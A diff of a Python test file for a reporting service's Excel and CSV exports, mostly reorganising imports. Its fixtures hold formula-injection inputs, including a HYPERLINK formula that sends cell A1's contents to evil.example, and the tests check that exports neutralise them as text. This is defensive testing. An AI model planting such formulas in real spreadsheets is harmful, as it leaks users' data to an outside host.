@@ -6,9 +6,10 @@ import io
 
 from openpyxl import load_workbook
 
+from services.reporting.domain.open_data import open_data_csv
 from services.reporting.domain.tables import Header, Table
-from services.reporting.presentation import exports
-from services.reporting.presentation.labels import Labeller
+from services.reporting.web import exports
+from services.reporting.web.labels import Labeller
 
 HOSTILE = '=HYPERLINK("https://evil.example/?leak="&A1,"Avaa")'
 NAMES = {"e1": HOSTILE, "e2": "-Kahvila", "e3": "@SUM(A1:A9)", "e4": "+358 40 123", "e5": "\tSarkain",
@@ -58,5 +59,5 @@ def test_excel_cells_are_text_not_formulas_and_numbers_stay_numbers():
 def test_open_data_csv_neutralises_keys_too():
     hostile = Table("t", "T", [Header("=1+1", "organisation")], [Header("participants")], {("=1+1", "participants"): -7},
                     row_dimension="organisation")
-    lines = list(csv.reader(io.StringIO(exports.open_data_csv([hostile]), newline="")))
+    lines = list(csv.reader(io.StringIO(open_data_csv([hostile]), newline="")))
     assert lines[1] == ["t", "organisation", "'=1+1", "participants", "-7"]
